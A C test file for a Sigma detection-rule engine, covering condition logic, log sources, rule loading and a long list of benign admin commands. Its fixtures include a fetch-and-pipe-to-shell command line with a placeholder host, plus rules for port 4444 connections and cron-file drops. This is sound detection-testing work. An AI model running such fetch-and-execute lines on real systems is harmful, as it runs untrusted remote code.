        {"sel_a and not filter",   1, 0, 1, 0, 0, 0},
        {"(sel_a or sel_b) and not filter", 1, 1, 1, 0, 0, 0},
        {"not (sel_a or sel_b)",   0, 0, 0, 0, 1, 1},
        {"1 of sel_*",             1, 1, 1, 1, 0, 0},
        {"all of sel_*",           0, 0, 1, 1, 0, 0},
        {"1 of them",              1, 1, 1, 1, 0, 1},
        {"all of them",            0, 0, 0, 1, 0, 0},
        {"2 of them",              0, 0, 1, 1, 0, 0},
        {"1 of sel_* and not 1 of filter*", 1, 1, 1, 0, 0, 0},
        {"sel_a or sel_b and filter", 1, 0, 1, 1, 0, 0},   /* and binds tighter */
        {"not sel_a and sel_b",    0, 1, 0, 0, 0, 0},      /* not binds tightest */
    };
    for (size_t i = 0; i < NJ_ARRAY_LEN(cases); i++) {
        char det[1024];
        snprintf(det, sizeof det, "%s  condition: %s\n", sels, cases[i].cond);
        sigma_rules *rs = load_det(det);
        const char *msg = cases[i].cond;
        if (HITS(rs, "CommandLine=aaa") != cases[i].a) fail_msg("%s: a", msg);
        if (HITS(rs, "CommandLine=bbb") != cases[i].b) fail_msg("%s: b", msg);
        if (HITS(rs, "CommandLine=aaa bbb") != cases[i].ab) fail_msg("%s: ab", msg);
        if (HITS(rs, "CommandLine=aaa bbb fff") != cases[i].abf) fail_msg("%s: abf", msg);
        if (HITS(rs, "CommandLine=zzz") != cases[i].none) fail_msg("%s: none", msg);
        if (HITS(rs, "CommandLine=fff") != cases[i].f) fail_msg("%s: f", msg);
        sigma_rules_free(rs);
    }
    /* A condition list is an OR. */
    char det[1024];
    snprintf(det, sizeof det, "%s  condition:\n    - sel_a and filter\n    - sel_b\n", sels);
    sigma_rules *rs = load_det(det);
    assert_int_equal(HITS(rs, "CommandLine=aaa"), 0);
    assert_int_equal(HITS(rs, "CommandLine=aaa fff"), 1);
    assert_int_equal(HITS(rs, "CommandLine=bbb"), 1);
    sigma_rules_free(rs);
    /* 'them' leaves out names starting with '_'. */
    rs = load_det("  a:\n    CommandLine: x\n  _helper:\n    CommandLine: y\n  condition: all of them\n");
    assert_int_equal(HITS(rs, "CommandLine=x"), 1);
    sigma_rules_free(rs);
}

static void test_keywords(void **state) {
    (void)state;
    char text[1024];
    snprintf(text, sizeof text,
             "title: kw\nlogsource:\n  product: linux\n  service: sshd\n"
             "detection:\n  keywords:\n    - 'Failed password'\n    - 'error: maximum * exceeded'\n"
             "  condition: keywords\n");
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_int_equal(sigma_load_text(rs, "kw.yml", text, strlen(text)), 1);
    kv e = {.n = 0};
    sigma_event_view v = {kv_get, &e, NULL, 0, "linux", NULL, "sshd"};
    const char *raw = "Dec 10 sshd[1]: FAILED PASSWORD for root from 1.2.3.4";
    v.raw = raw;
    v.raw_len = strlen(raw);
    assert_int_equal(sigma_match(rs, &v, NULL, 0), 1);
    raw = "sshd[1]: error: maximum authentication attempts exceeded for root";
    v.raw = raw;
    v.raw_len = strlen(raw);
    assert_int_equal(sigma_match(rs, &v, NULL, 0), 1);
    raw = "sshd[1]: Accepted publickey for root";
    v.raw = raw;
    v.raw_len = strlen(raw);
    assert_int_equal(sigma_match(rs, &v, NULL, 0), 0);
    v.raw = NULL;
    v.raw_len = 0;
    assert_int_equal(sigma_match(rs, &v, NULL, 0), 0);
    sigma_rules_free(rs);

    /* Keywords with |all, and a single keyword scalar. */
    rs = load_det("  kw:\n    '|all':\n      - foo\n      - bar\n  condition: kw\n");
    assert_int_equal(hits_of(rs, "x FOO y bar", (const char *const[]){"A=b"}, 1), 1);
    assert_int_equal(hits_of(rs, "x foo y", (const char *const[]){"A=b"}, 1), 0);
    sigma_rules_free(rs);
    rs = load_det("  kw: 'needle'\n  condition: kw\n");
    assert_int_equal(hits_of(rs, "hay needle hay", (const char *const[]){"A=b"}, 1), 1);
    assert_int_equal(hits_of(rs, "hay", (const char *const[]){"A=b"}, 1), 0);
    sigma_rules_free(rs);
}

/* ---- logsource ------------------------------------------------------------- */

static void test_logsource(void **state) {
    (void)state;
    const char *text =
        "title: lin\nlogsource:\n  product: linux\n  category: process_creation\n"
        "detection:\n  s:\n    Image|endswith: /x\n  condition: s\n"
        "---\n"
        "title: mac\nlogsource:\n  product: macos\n  category: process_creation\n"
        "detection:\n  s:\n    Image|endswith: /x\n  condition: s\n"
        "---\n"
        "title: aud\nlogsource:\n  product: linux\n  service: auditd\n"
        "detection:\n  s:\n    exe|endswith: /x\n  condition: s\n"
        "---\n"
        "title: net\nlogsource:\n  category: network_connection\n  product: linux\n"
        "detection:\n  s:\n    Image|endswith: /x\n  condition: s\n";
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_int_equal(sigma_load_text(rs, "ls.yml", text, strlen(text)), 4);
    kv e;
    sigma_event_view v = view_of(&e, (const char *const[]){"Image=/bin/x", "exe=/bin/x"}, 2);
    sigma_hit h[8];
    v.product = "linux";
    assert_int_equal(sigma_match(rs, &v, h, 8), 1);
    assert_string_equal(h[0].title, "lin");
    v.product = "macos";
    assert_int_equal(sigma_match(rs, &v, h, 8), 1);
    assert_string_equal(h[0].title, "mac");
    v.product = NULL;                                    /* unknown OS: both */
    assert_int_equal(sigma_match(rs, &v, h, 8), 2);
    assert_true(h[0].rule < h[1].rule);
    v.product = "linux";
    v.service = "auditd";                                /* auditd exec: both kinds */
    assert_int_equal(sigma_match(rs, &v, h, 8), 2);
    assert_string_equal(h[0].title, "lin");
    assert_string_equal(h[1].title, "aud");
    v.category = "network_connection";
    v.service = NULL;
    assert_int_equal(sigma_match(rs, &v, h, 8), 1);
    assert_string_equal(h[0].title, "net");
    /* max limits what is written, not what is counted. */
    v.category = "process_creation";
    v.product = NULL;
    assert_int_equal(sigma_match(rs, &v, h, 1), 2);
    sigma_rules_free(rs);
}

/* ---- skips ------------------------------------------------------------------- */

static void test_skip_reasons(void **state) {
    (void)state;
    expect_det_skip("  s:\n    CommandLine|utf16le|contains: x\n  condition: s\n", "unsupported modifier 'utf16le'");
    expect_det_skip("  s:\n    CommandLine|expand: '%x%'\n  condition: s\n", "unsupported modifier 'expand'");
    expect_det_skip("  s:\n    Image: x\n  condition: s | count() by Image > 5\n", "'|' aggregation");
    expect_det_skip("  s:\n    Image: x\n  condition: s and t\n", "unknown selection 't'");
    expect_det_skip("  s:\n    Image: x\n  condition: 1 of z*\n", "matches no selection");
    expect_det_skip("  s:\n    Image: x\n  condition: s and\n", "condition");
    expect_det_skip("  s:\n    Image: x\n  condition: (s\n", "missing ')'");
    expect_det_skip("  s:\n    Image: x\n  timeframe: 5m\n  condition: s\n", "timeframe");
    expect_det_skip("  s:\n    CommandLine|re: '(unclosed'\n  condition: s\n", "regular expression");
    expect_det_skip("  s:\n    CommandLine|re|contains: x\n  condition: s\n", "combination");
    expect_det_skip("  s:\n    Image: x\n", "no condition");
    expect_det_skip("  s:\n    Image: []\n  condition: s\n", "empty value list");
    expect_det_skip("  s:\n    Image|exists: maybe\n  condition: s\n", "exists needs true or false");
    expect_skip("title: w\nlogsource:\n  product: windows\n  category: process_creation\n"
                "detection:\n  s:\n    Image: x\n  condition: s\n", "unknown logsource product 'windows'");
    expect_skip("title: w\nlogsource:\n  product: linux\n  service: clamav\n"
                "detection:\n  s:\n    Image: x\n  condition: s\n", "unknown logsource service 'clamav'");
    expect_skip("title: w\nlevel: severe\nlogsource:\n  product: linux\n"
                "detection:\n  s:\n    Image: x\n  condition: s\n", "unknown level");
    expect_skip("logsource:\n  product: linux\ndetection:\n  s:\n    Image: x\n  condition: s\n", "no title");
    expect_skip("action: global\ntitle: g\nlogsource:\n  product: linux\n---\ndetection:\n  s: x\n  condition: s\n",
                "action: global");
    expect_skip("title: c\ncorrelation:\n  type: event_count\n", "correlation");
    expect_skip("title: [unclosed\n", "YAML error at line");
    expect_skip("", "empty file");
}

/* A malformed file says where, and does not stop the directory. */
static void test_dir_load(void **state) {
    (void)state;
    const char *dir = nj_test_tmpdir();
    assert_non_null(dir);
    char p[600], sub[600];
    snprintf(sub, sizeof sub, "%s/sub", dir);
    assert_int_equal(mkdir(sub, 0700), 0);
    struct { const char *name, *text; } files[] = {
        {"a_good.yml", "title: good\nlogsource:\n  product: linux\ndetection:\n  s:\n    Image: x\n  condition: s\n"},
        {"b_bad.yml", "title: bad\ndetection:\n  s: [unclosed\n  condition: s\n"},
        {"sub/c_good.yaml", "title: good2\nlogsource:\n  product: macos\ndetection:\n  s:\n    Image: y\n  condition: s\n"},
        {"sub/notes.txt", "not a rule"},
        {".hidden.yml", "title: [broken"},
    };
    for (size_t i = 0; i < NJ_ARRAY_LEN(files); i++) {
        snprintf(p, sizeof p, "%s/%s", dir, files[i].name);
        FILE *f = fopen(p, "w");
        assert_non_null(f);
        fputs(files[i].text, f);
        fclose(f);
    }
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_int_equal(sigma_load_path(rs, dir), 2);
    assert_int_equal(sigma_rule_count(rs), 2);
    assert_string_equal(sigma_rule(rs, 0)->title, "good");
    assert_string_equal(sigma_rule(rs, 1)->title, "good2");
    assert_int_equal(sigma_skip_count(rs), 1);
    assert_non_null(strstr(sigma_skip_at(rs, 0)->file, "b_bad.yml"));
    assert_non_null(strstr(sigma_skip_at(rs, 0)->reason, "YAML error at line 4"));
    /* A file past the size bound is a skip with the reason. */
    snprintf(p, sizeof p, "%s/sub/huge.yml", dir);
    FILE *big = fopen(p, "w");
    assert_non_null(big);
    for (int i = 0; i < (1 << 20) / 16 + 1; i++) fputs("# padding line.\n", big);
    fclose(big);
    sigma_rules *rs3 = sigma_rules_new(&err);
    assert_int_equal(sigma_load_path(rs3, dir), 2);
    assert_int_equal(sigma_skip_count(rs3), 2);
    assert_non_null(strstr(sigma_skip_at(rs3, 1)->reason, "larger than"));
    sigma_rules_free(rs3);
    unlink(p);

    /* A link back to a parent is a skip, not a second copy of every rule. */
    snprintf(p, sizeof p, "%s/sub/loop", dir);
    assert_int_equal(symlink("..", p), 0);
    sigma_rules *rs2 = sigma_rules_new(&err);
    assert_int_equal(sigma_load_path(rs2, dir), 2);
    assert_int_equal(sigma_skip_count(rs2), 2);
    assert_non_null(strstr(sigma_skip_at(rs2, 1)->reason, "directory loop"));
    sigma_rules_free(rs2);
    unlink(p);
    /* The same file named alone is an error with the sentence. */
    snprintf(p, sizeof p, "%s/b_bad.yml", dir);
    assert_int_equal(sigma_load_path(rs, p), NJ_EFORMAT);
    assert_non_null(strstr(nj_last_error(), "YAML error"));
    snprintf(p, sizeof p, "%s/missing", dir);
    assert_int_equal(sigma_load_path(rs, p), -ENOENT);
    sigma_rules_free(rs);
    for (size_t i = 0; i < NJ_ARRAY_LEN(files); i++) {
        snprintf(p, sizeof p, "%s/%s", dir, files[i].name);
        unlink(p);
    }
    rmdir(sub);
    rmdir(dir);
}

/* ---- canonical events --------------------------------------------------- */

static void test_canonical_event(void **state) {
    (void)state;
    const char *text =
        "title: pc\nlogsource:\n  product: linux\n  category: process_creation\n"
        "detection:\n  s:\n    Image|endswith: /curl\n    CommandLine|contains: '| sh'\n"
        "    ParentImage: /bin/bash\n    User: alice\n    LogonId: 1000\n    ProcessId: 4242\n"
        "    ParentProcessId: 4000\n    CurrentDirectory: /home/alice\n  condition: s\n"
        "---\n"
        "title: aud\nlogsource:\n  product: linux\n  service: auditd\n"
        "detection:\n  s:\n    type: EXECVE\n    a0: curl\n    a1: -s\n    comm: curl\n    exe: /usr/bin/curl\n"
        "    key: exec_watch\n    uid: 0\n    auid: 1000\n  condition: s\n"
        "---\n"
        "title: net\nlogsource:\n  product: linux\n  category: network_connection\n"
        "detection:\n  s:\n    DestinationPort: 4444\n    DestinationIp|cidr: 203.0.113.0/24\n    Initiated: 'true'\n"
        "    SourcePort: 50000\n  condition: s\n"
        "---\n"
        "title: file\nlogsource:\n  product: linux\n  category: file_event\n"
        "detection:\n  s:\n    TargetFilename|startswith: /etc/cron.d/\n  condition: s\n";
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_int_equal(sigma_load_text(rs, "ev.yml", text, strlen(text)), 4);
    json_error_t je;
    json_t *ev = json_loads(
        "{\"v\":1,\"id\":\"a:1\",\"kind\":\"exec\",\"time\":\"2026-12-07T11:22:33Z\","
        "\"source\":{\"format\":\"auditd\"},\"user\":{\"name\":\"alice\",\"uid\":0,\"auid\":1000},"
        "\"process\":{\"pid\":4242,\"ppid\":4000,\"path\":\"/usr/bin/curl\",\"argv\":[\"curl\",\"-s\",\"http://x/y.sh\"],"
        "\"cmdline\":\"curl -s http://x/y.sh | sh\",\"cwd\":\"/home/alice\"},"
        "\"parent\":{\"pid\":4000,\"path\":\"/bin/bash\"},"
        "\"raw\":\"type=SYSCALL msg=audit(1.2:3): syscall=59 comm=\\\"curl\\\" key=\\\"exec_watch\\\"\"}", 0, &je);
    assert_non_null(ev);
    sigma_json_ctx ctx;
    sigma_event_view v;
    sigma_view_from_event(&v, &ctx, ev);
    assert_string_equal(v.product, "linux");
    assert_string_equal(v.category, "process_creation");
    assert_string_equal(v.service, "auditd");
    sigma_hit h[4];
    assert_int_equal(sigma_match(rs, &v, h, 4), 2);
    assert_string_equal(h[0].title, "pc");
    assert_string_equal(h[1].title, "aud");
    json_decref(ev);

    ev = json_loads("{\"v\":1,\"id\":\"n\",\"kind\":\"network\",\"time\":\"t\",\"source\":{\"format\":\"sysmon\"},"
                    "\"network\":{\"protocol\":\"tcp\",\"direction\":\"outbound\",\"src_ip\":\"10.0.0.5\","
                    "\"src_port\":50000,\"dst_ip\":\"203.0.113.9\",\"dst_port\":4444}}", 0, &je);
    assert_non_null(ev);
    sigma_view_from_event(&v, &ctx, ev);
    assert_int_equal(sigma_match(rs, &v, h, 4), 1);
    assert_string_equal(h[0].title, "net");
    json_decref(ev);

    ev = json_loads("{\"v\":1,\"id\":\"f\",\"kind\":\"file\",\"time\":\"t\",\"source\":{\"format\":\"sysmon\"},"
                    "\"file\":{\"path\":\"/etc/cron.d/evil\",\"action\":\"create\"}}", 0, &je);
    assert_non_null(ev);
    sigma_view_from_event(&v, &ctx, ev);
    assert_int_equal(sigma_match(rs, &v, h, 4), 1);
    assert_string_equal(h[0].title, "file");
    json_decref(ev);

    /* Field by field through the accessor: fallbacks and derived values. */
    ev = json_loads("{\"v\":1,\"id\":\"x\",\"kind\":\"network\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
                    "\"process\":{\"path\":\"/opt/tools/a-very-long-program-name\",\"argv\":[\"x\"]},"
                    "\"parent\":{\"pid\":77},\"network\":{\"direction\":\"inbound\"},"
                    "\"raw\":\"type=SYSCALL msg=audit(1.2:3): key=(null)\"}", 0, &je);
    assert_non_null(ev);
    sigma_view_from_event(&v, &ctx, ev);
    size_t len;
    const char *val = v.get(v.ctx, "ParentProcessId", &len);
    assert_non_null(val);
    assert_string_equal(val, "77");                              /* parent.pid fallback */
    val = v.get(v.ctx, "comm", &len);
    assert_non_null(val);
    assert_int_equal(len, 15);                                   /* cut as the kernel does */
    assert_memory_equal(val, "a-very-long-pro", 15);
    val = v.get(v.ctx, "Initiated", &len);
    assert_non_null(val);
    assert_string_equal(val, "false");
    assert_null(v.get(v.ctx, "key", &len));                      /* (null) is absent */
    assert_null(v.get(v.ctx, "a1", &len));
    assert_null(v.get(v.ctx, "a-1", &len));
    assert_null(v.get(v.ctx, "User", &len));
    val = v.get(v.ctx, "type", &len);
    assert_string_equal(val, "SYSCALL");
    assert_string_equal(v.category, "network_connection");
    json_decref(ev);

    /* sigma_match_event: an auditd exec event meets rules of both record
     * types; each rule once. */
    {
        const char *two =
            "title: exec rec\nlogsource:\n  product: linux\n  service: auditd\n"
            "detection:\n  s:\n    type: EXECVE\n    a0: id\n  condition: s\n"
            "---\n"
            "title: syscall rec\nlogsource:\n  product: linux\n  service: auditd\n"
            "detection:\n  s:\n    type: SYSCALL\n    SYSCALL: execve\n    euid: 33\n    a0: null\n  condition: s\n"
            "---\n"
            "title: either\nlogsource:\n  product: linux\n  service: auditd\n"
            "detection:\n  s:\n    exe|endswith: /id\n  condition: s\n"
            "---\n"
            "title: pc\nlogsource:\n  product: linux\n  category: process_creation\n"
            "detection:\n  s:\n    Image|endswith: /id\n  condition: s\n";
        sigma_rules *r2 = sigma_rules_new(&err);
        assert_int_equal(sigma_load_text(r2, "two.yml", two, strlen(two)), 4);
        ev = json_loads("{\"v\":1,\"id\":\"a\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
                        "\"user\":{\"uid\":33,\"euid\":33},\"process\":{\"path\":\"/usr/bin/id\",\"argv\":[\"id\"]}}", 0, &je);
        assert_non_null(ev);
        sigma_view_from_event(&v, &ctx, ev);
        assert_int_equal(sigma_match(r2, &v, h, 4), 3);              /* EXECVE view alone */
        assert_int_equal(sigma_match_event(r2, ev, h, 4), 4);        /* both records */
        for (int i = 0; i < 4; i++) assert_int_equal(h[i].rule, i);  /* each once, load order */
        assert_int_equal(sigma_match_event(r2, ev, h, 2), 4);        /* max limits writing only */
        assert_int_equal(h[1].rule, 1);
        json_decref(ev);
        sigma_rules_free(r2);
    }

    /* A bare command line: no OS, no service; argv-less is fine. */
    ev = json_loads("{\"v\":1,\"id\":\"cmdline:1\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"cmdline\"},"
                    "\"process\":{\"cmdline\":\"curl x | sh\"}}", 0, &je);
    assert_non_null(ev);
    sigma_view_from_event(&v, &ctx, ev);
    assert_null(v.product);
    assert_null(v.service);
    assert_int_equal(sigma_match(rs, &v, h, 4), 0);     /* pc needs Image etc. */
    json_decref(ev);
    sigma_rules_free(rs);
}


/* ---- the team rule pack (rules/nightjar) --------------------------------- */

/* Match a bare command line as `nightjar analyze` sees one (no OS known,
 * Image = argv[0]); returns the number of hits and the first title. */
static int pack_hits(sigma_rules *rs, const char *cmd, const char **title, int *level) {
    char argv0[256];
    size_t n = strcspn(cmd, " \t\n");
    snprintf(argv0, sizeof argv0, "%.*s", (int)(n < 255 ? n : 255), cmd);
    kv e = {{"CommandLine", "Image"}, {cmd, argv0}, 2};
    sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
    sigma_hit h[8];
    int k = sigma_match(rs, &v, h, 8);
    if (k > 0) { *title = h[0].title; *level = h[0].level; }
    return k;
}

/* Everyday administration and development lines, many of them close to an
 * attack pattern (a shell path as argument, sockets, base64, firewall and
 * keychain tools): no rule of the pack may fire on any. */
static void test_pack_benign(void **state) {
    (void)state;
    static const char *benign[] = {
        "ls -l /bin/bash", "file /bin/sh", "readlink -f /bin/sh", "ldd /bin/bash",
        "sha256sum /bin/bash /bin/sh", "chmod 755 /usr/local/bin/tool", "sudo /bin/bash",
        "docker exec -it web /bin/sh", "kubectl exec -it api-7d9 -- /bin/bash",
        "docker run --rm -it --entrypoint /bin/sh alpine:3.19", "useradd -m -s /bin/bash alice",
        "chsh -s /bin/zsh", "usermod --shell /bin/bash bob", "ln -sf /bin/bash /bin/sh",
        "sh -c 'echo hi' 2>&1", "bash -c \"make -j2 2>&1 | tee build.log\"",
        "find . -name '*.sh' -exec chmod +x {} \\;", "find . -type f -exec /bin/sh -c 'echo \"$1\"' _ {} \\;",
        "sudo chroot /mnt/sysroot /bin/bash", "nice -n 10 make -j2", "timeout 5 curl -s http://localhost:8080/health",
        "time /bin/bash ./bench.sh", "env -i HOME=/tmp bash --noprofile --norc",
        /* a shell as data or as the job of a terminal or multiplexer */
        "tmux new-session -s work /bin/zsh", "xterm -e /bin/bash", "nice -n 19 /bin/bash build.sh",
        "strace -f /bin/sh -c 'make -j2'", "exec /bin/zsh -l", "sudo -u postgres /bin/bash",
        "grep -c /bin/bash /etc/passwd",
        "curl -fsSL https://example.com/pkg.tar.gz -o pkg.tar.gz", "wget -O- https://example.com/key.gpg | gpg --dearmor -o key.gpg",
        "ssh -o ProxyCommand='ssh -W %h:%p bastion' db1", "ssh -o StrictHostKeyChecking=no deploy@build",
        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -C me", "ssh-copy-id -i ~/.ssh/id_ed25519.pub user@host",
        "cat ~/.ssh/id_ed25519.pub", "systemctl enable --now nginx", "systemctl restart sshd", "crontab -l",
        "launchctl list", "iptables -L -n -v", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "ufw allow 22/tcp",
        "chattr +i /etc/resolv.conf", "lsattr /etc/passwd", "getent passwd alice", "grep alice /etc/passwd",
        "sudo visudo", "sudo -l", "echo \"alias ll='ls -la'\" >> ~/.bashrc", "export PATH=$PATH:/opt/bin",
        "python3 -m http.server 8000", "python3 -c 'import socket; print(socket.gethostname())'",
        "python3 -c \"import subprocess; subprocess.run(['ls', '-l'])\"", "perl -pi -e 's/foo/bar/g' config.ini",
        "node -e \"console.log(require('os').hostname())\"", "nc -zv db1 5432", "nc -l 8080", "ncat --ssl example.com 443",
        "socat TCP-LISTEN:8080,fork TCP:localhost:80", "openssl s_client -connect example.com:443 -servername example.com",
        "base64 -d secret.b64 > secret.bin", "echo aGVsbG8= | base64 -d", "xattr -l ~/Downloads/report.pdf",
        "xattr -d com.apple.quarantine /Applications/Tool.app", "spctl --status", "csrutil status",
        "tccutil reset Camera com.example.meet", "dscl . -read /Users/alice",
        "security find-certificate -a -p", "osascript -e 'display notification \"build done\"'",
        "osascript -e 'tell application \"Finder\" to activate'", "modprobe nvidia", "dmesg | tail -20",
        "history | grep ssh", "history -c", "rm -rf node_modules", "truncate -s 0 app.log", "journalctl --vacuum-time=2d",
        "docker run -v $(pwd):/src -w /src gcc:13 make", "LD_LIBRARY_PATH=/opt/lib ./app", "env FOO=bar make test",
        "nohup ./server.sh > server.log 2>&1 &", "xargs -n1 echo < list.txt", "strace -f -o trace.log ./app",
        "git clone https://github.com/example/project.git", "tar czf backup.tgz /home/alice/docs",
        "scp report.pdf alice@fileserver:/srv/share/", "rsync -av --delete src/ backup/",
        "podman import -c CMD=/bin/bash rootfs.tar image:tag", "echo 1 > /proc/sys/net/ipv4/ip_forward",
        "sysctl -w kernel.core_pattern='|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h'",
        "install -m 0755 build/tool /usr/local/bin/tool", "chmod 4755 /usr/local/bin/helper",
        /* near misses of the wider pack: downloads, credentials, persistence, services, logs, disks */
        "truncate -s 0 app.log", "systemctl stop nginx",
        "security find-certificate -a -p /Library/Keychains/System.keychain", "tar czf backup.tgz ~/docs",
        "grep -rn password_reset src/", "openssl s_client -connect mail.example.com:993 </dev/null",
        "nc -zv db1 5432 < /dev/null",
        "wget https://ftp.gnu.org/gnu/hello/hello-2.12.tar.gz && tar xzf hello-2.12.tar.gz && cd hello-2.12 && ./configure",
        "curl -o data.json https://api.example.com/v1/items; python3 report.py data.json",
        "curl -s https://api.example.com/v1/items | python3 -m json.tool",
        "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])'", "grep -ri todo ~/src/project",
        "find . -name '*.pem' -newer Makefile", "cat /etc/hostname", "getent passwd alice",
        "grep alice /etc/passwd", "sudo visudo -c", "ls -l /etc/sudoers", "id -un", "uname -a; hostname",
        "touch README.md", "touch -c build/stamp", "tmutil listbackups", "tmutil startbackup", "profiles list",
        "sudo profiles show -type configuration", "mount --bind /srv/data /mnt/data",
        "sysctl -w net.ipv4.ip_forward=1", "tar cf - src | ssh build 'tar xf - -C /work'",
        "dig +short example.com", "nslookup $(hostname -f)", "dd if=/dev/zero of=disk.img bs=1M count=64",
        "dd if=ubuntu.iso of=/dev/sdb bs=4M status=progress", "rm -rf ./build/*",
        "gpg -c notes.txt && rm notes.txt", "find . -name '*.log' -exec gzip {} \\;",
        "docker run --rm -it alpine sh", "kubectl run tmp --image=busybox --rm -it -- sh", "./build.sh -p 8080",
        "bash ./deploy.sh -p prod", "nmapper --help", "ps aux | grep nginx", "lscpu | grep -i 'model name'",
        "cat /proc/cpuinfo", "echo aGVsbG8gd29ybGQ= | base64 -d", "base64 -d cert.b64 > cert.der",
        "cat ~/.bash_profile", "history | tail", "python3 -m http.server 8080", "php -S localhost:8000 -t public/",
        "screencapture ~/Desktop/shot.png", "tcpdump -i en0 -n port 443",
        "curl -s https://api.github.com/repos/example/project", "openssl passwd -help", "shred -u old-secrets.txt",
        "zip -r docs.zip docs/", "tar czf /tmp/build-cache.tgz node_modules", "nc -l 9000 > /dev/null",
        "python3 -c \"open('out.txt','w').write('hi')\"", "crontab -l | grep backup",
        "echo \"source ~/.nvm/nvm.sh\" >> ~/.bashrc", "echo 'eval \"$(ssh-agent -s)\"' >> ~/.bashrc",
        "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.zshrc", "sudo launchctl list | grep com.apple",
        "kill -9 12345", "killall Dock", "systemctl restart apparmor", "sudo aa-status", "getenforce",
        "touch -r Makefile.am Makefile.in", "hashcat --version", "john --help", "ssh -D 1080 bastion",
        "security find-generic-password -s 'github.com' -a octocat", "sqlite3 notes.db '.schema'",
        "find ~/Library/Application\\ Support/Code -name '*.json'",
        "du -sh ~/Library/Application\\ Support/Google/Chrome", "rm -rf ~/.cache/google-chrome", "gcore 4242",
        "gdb -p 4242", "aws sts get-caller-identity", "kubectl config view --minify",
        "grep -r \"api_key\" ./config", "strings ./a.out | grep -i version", "echo $((3+4))",
        "dig @1.1.1.1 example.org", "host $(hostname)", "xxd -r -p hex.txt > bin.dat",
        "openssl enc -aes-256-cbc -salt -in db.sql -out db.sql.enc", "for f in *.txt; do gzip \"$f\"; done",
        "wipefs -a /dev/sdX1", "mkfs.ext4 /dev/sdb1", "diskutil eraseDisk APFS USB disk4",
        "curl -o ~/.git-prompt.sh https://raw.githubusercontent.com/git/git/master/contrib/completion/git-prompt.sh && echo 'source ~/.git-prompt.sh' >> ~/.bashrc",
        "echo 'session optional pam_exec.so /usr/local/bin/login-notify' >> /etc/pam.d/sshd",
        "echo 'auth required pam_faillock.so preauth' | sudo tee -a /etc/pam.d/system-auth",
        "for f in *.tar; do gpg -e -r backup@example.com \"$f\" && rm \"$f\"; done",
        "docker run -d --name agent --privileged --pid=host --net=host -v /var/run/docker.sock:/host/var/run/docker.sock vendor/agent",
        "sudo rm -rf /var/log/journal/*", "find /var/log/nginx -name '*.gz' -mtime +14 -delete",
        "sudo find /var/log -type f -name '*.1' -delete", "kubectl get pods -o json | jq '.items[].spec.hostPID'",
        "curl -fsSL https://example.com/install.sh -o install.sh && less install.sh",
        "wget https://example.com/data.csv && python3 analyze.py", "brew install --cask firefox",
        "brew services start postgresql@16", "git clone https://github.com/example/dotfiles && ./dotfiles/install",
        "pip install --user requests", "npm ci && npm run build", "ssh -L 5432:db.internal:5432 bastion",
        "rsync -avz --progress ./site/ web1:/var/www/site/", "systemctl status osqueryd",
        "sudo osqueryi 'select * from processes limit 5'", "launchctl print system/com.crowdstrike.falcond",
        "ps -ef | grep -v grep | grep postgres", "pgrep -fl python", "pkill -f 'node server.js'",
        "kill -HUP $(cat /run/nginx.pid)", "sudo systemctl disable --now bluetooth", "tail -f /var/log/syslog",
        "sudo less /var/log/auth.log", "sudo journalctl -u ssh --since today",
        "zip -r project.zip project/ -x '*.git*'", "tar -czf /tmp/logs-$(date +%F).tgz /var/log/nginx",
        "7z a archive.7z ~/Pictures/2024", "openssl enc -d -aes-256-cbc -in backup.enc -out backup.tar",
        "gpg --decrypt secrets.gpg", "dd if=/dev/sda of=/mnt/backup/sda.img bs=4M status=progress",
        "sudo fdisk -l /dev/sda", "diskutil info disk0", "diskutil eraseVolume JHFS+ Untitled /Volumes/USB",
        "sudo tmutil setdestination /Volumes/Backup", "sudo profiles renew -type enrollment",
        "defaults write com.apple.dock autohide -bool true", "mount -t tmpfs tmpfs /mnt/ram",
        "nc -vz example.com 443", "ncat -l 8080 --keep-open", "socat - TCP:localhost:6379",
        "dig +short TXT _dmarc.example.com", "host -t mx example.com",
        "for h in web1 web2 web3; do ping -c1 $h; done", "nslookup example.com 8.8.8.8",
        "echo \"$(date) backup done\" >> ~/backup.log",
        "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://example.com').status)\"",
        "node -e \"require('https').get('https://example.com', r => console.log(r.statusCode))\"",
        "perl -MLWP::Simple -e 'getstore(\"https://example.com/f.txt\", \"f.txt\")'",
        "ruby -e 'puts File.read(\"Gemfile\")'", "python3 -c \"import os; os.system('clear')\"",
        "find ~ -name '*.pdf' -size +10M", "grep -r \"TODO\" /home/alice/project", "grep -rl 'password' docs/",
        "cat ~/.kube/config | grep server", "kubectl config use-context prod", "aws configure list",
        "cat ~/.ssh/config", "strings /usr/bin/ls | head", "id -Gn", "cat /etc/os-release",
        "uname -r && lsb_release -a", "touch -d 'next monday' reminder.txt", "touch -m file.txt", "ls -la /tmp",
        "chmod 700 ~/.ssh", "cp ~/.bashrc ~/.bashrc.bak", "source ~/.zshrc", "sudo apt-get install -y nmap-common",
        "sudo tcpdump -i any -w /tmp/dns.pcap port 53", "screencapture -i ~/Desktop/region.png",
        "base64 -w0 image.png > image.b64", "openssl base64 -in cert.pem", "xxd -p key.bin | tr -d '\\n'",
        "curl -s https://ipinfo.example.com/docs", "openssl req -new -key server.key -out server.csr",
        "python3 -m venv .venv && . .venv/bin/activate", "sudo launchctl bootout gui/501/com.example.agent",
        "sudo launchctl unload /Library/LaunchDaemons/com.docker.vmnetd.plist", "shred -u /tmp/report.txt",
        "rm -f /tmp/.X11-unix/X0", "ssh -i /home/deploy/.ssh/id_ed25519 deploy@web1",
        "ssh-keygen -y -f /root/.ssh/id_rsa", "chmod 600 /home/deploy/.ssh/id_rsa",
        "smbclient //fileserver/share -U alice -c 'ls'", "ldapsearch -x -b 'dc=example,dc=com' '(uid=alice)'",
